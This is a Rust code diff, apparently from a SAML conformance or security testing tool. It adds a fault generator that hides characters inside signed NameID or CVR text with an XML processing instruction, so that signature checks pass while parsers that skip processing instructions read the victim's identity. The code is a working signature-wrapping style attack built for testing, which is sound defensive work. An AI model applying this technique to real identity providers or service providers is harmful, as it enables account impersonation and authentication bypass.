@@ -8,7 +8,8 @@
 
 use super::stages::StageContext;
 use super::{
-    HmacAlg, HmacKeyEncoding, SignatureErrorKind, SmugglePlace, SmuggledElement, VoidC14nOn,
+    FaultError, HmacAlg, HmacKeyEncoding, PiSplit, PiTarget, SignatureErrorKind, SmugglePlace,
+    SmuggledElement, VoidC14nOn,
 };
 use crate::saml::mint::MintError;
 use crate::saml::ns;
@@ -418,4 +419,112 @@ pub(crate) fn smuggle_in_signature(
         ),
     };
     Ok(())
+}
+
+// ---- docs/advisories.md S15: a processing instruction inside signed text ----
+
+/// The PI target `pi-in-signed-text` writes (any name but `xml` would do).
+pub(crate) const PI_TARGET: &str = "x";
+
+/// The characters the IdP signed and a PI-skipping reader does not see: what an attacker who
+/// can get a value of their choosing signed (their own e-mail address in OneUptime #2988's
+/// example, `not-an-admin@…`) adds to the victim's value. No `?>`, no leading or trailing
+/// space, so the PI's data is exactly these characters for every parser.
+pub(crate) const PI_HIDDEN: &str = "mock-attacker-";
+
+/// `seen` cut where `split` puts the PI: the text before it and the text after it. `Middle`
+/// cuts after half of the characters.
+pub(crate) fn pi_cut(seen: &str, split: PiSplit) -> (&str, &str) {
+    let at = match split {
+        PiSplit::Start => 0,
+        PiSplit::End => seen.len(),
+        PiSplit::Middle => seen
+            .char_indices()
+            .nth(seen.chars().count() / 2)
+            .map_or(seen.len(), |(i, _)| i),
+    };
+    seen.split_at(at)
+}
+
+/// `pi-in-signed-text` (docs/advisories.md S15): the assertion is signed afresh (same key,
+/// KeyInfo and algorithms as the genuine one) with the `target` value set to the victim's value
+/// with [`PI_HIDDEN`] inserted at `split`, and the signed text is then rewritten with
+/// `<?x mock-attacker-?>` in place of the hidden characters. What the signature covers is the
+/// flattened text; what a DOM reader returns (PIs are not text) is the victim's value.
+pub(crate) fn pi_in_signed_text(
+    assertion: &mut String,
+    cx: &StageContext<'_>,
+    target: PiTarget,
+    split: PiSplit,
+    victim: &Option<String>,
+) -> Result<(), MintError> {
+    let v = cx.victim(victim)?;
+    let not_applicable = |why: String| MintError::from(FaultError::NotApplicable(why));
+    let seen = match target {
+        PiTarget::NameId => v.name_id(),
+        PiTarget::Cvr => v
+            .cvr
+            .clone()
+            .ok_or_else(|| not_applicable(format!("victim {:?} has no CVR", v.id)))?,
+    };
+    let (before, after) = pi_cut(&seen, split);
+    let signed_value = format!("{before}{PI_HIDDEN}{after}");
+    let mut model = cx.model.assertions[0].clone();
+    let (open, close) = match target {
+        PiTarget::NameId => {
+            let n = model
+                .subject
+                .as_mut()
+                .and_then(|s| s.name_id.as_mut())
+                .ok_or_else(|| not_applicable("the assertion has no NameID".into()))?;
+            n.value = signed_value;
+            ("<saml:NameID".to_string(), "</saml:NameID>")
+        }
+        PiTarget::Cvr => {
+            let a = model
+                .attribute_statements
+                .iter_mut()
+                .flatten()
+                .find(|a| a.name == ns::attr::PROFESSIONAL_CVR)
+                .ok_or_else(|| {
+                    not_applicable("the assertion has no professional CVR attribute".into())
+                })?;
+            a.values = vec![signed_value];
+            (
+                format!(
+                    r#"<saml:Attribute Name="{}""#,
+                    escape_attr(ns::attr::PROFESSIONAL_CVR)
+                ),
+                "</saml:AttributeValue>",
+            )
+        }
+    };
+    let signed = cx.sign_assertion(&model, cx.input.keys.choose(cx.crypto.key))?;
+    let sent = format!(
+        "{}<?{PI_TARGET} {PI_HIDDEN}?>{}",
+        escape_text(before),
+        escape_text(after)
+    );
+    *assertion = replace_value_text(&signed, &open, close, &sent)
+        .ok_or_else(|| not_applicable(format!("no {open} with a value in the signed assertion")))?;
+    Ok(())
+}
+
+/// `xml` with the text of the value that follows the first `open` replaced by `new_inner`: for
+/// a NameID its own text, for an Attribute (whose `open` is its start tag) the text of its
+/// first AttributeValue, up to `close`.
+fn replace_value_text(xml: &str, open: &str, close: &str, new_inner: &str) -> Option<String> {
+    let start = xml.find(open)?;
+    let value_open = if open.starts_with("<saml:Attribute ") {
+        start + xml[start..].find("<saml:AttributeValue")?
+    } else {
+        start
+    };
+    let text_start = value_open + xml[value_open..].find('>')? + 1;
+    let text_end = text_start + xml[text_start..].find(close)?;
+    Some(format!(
+        "{}{new_inner}{}",
+        &xml[..text_start],
+        &xml[text_end..]
+    ))
 }
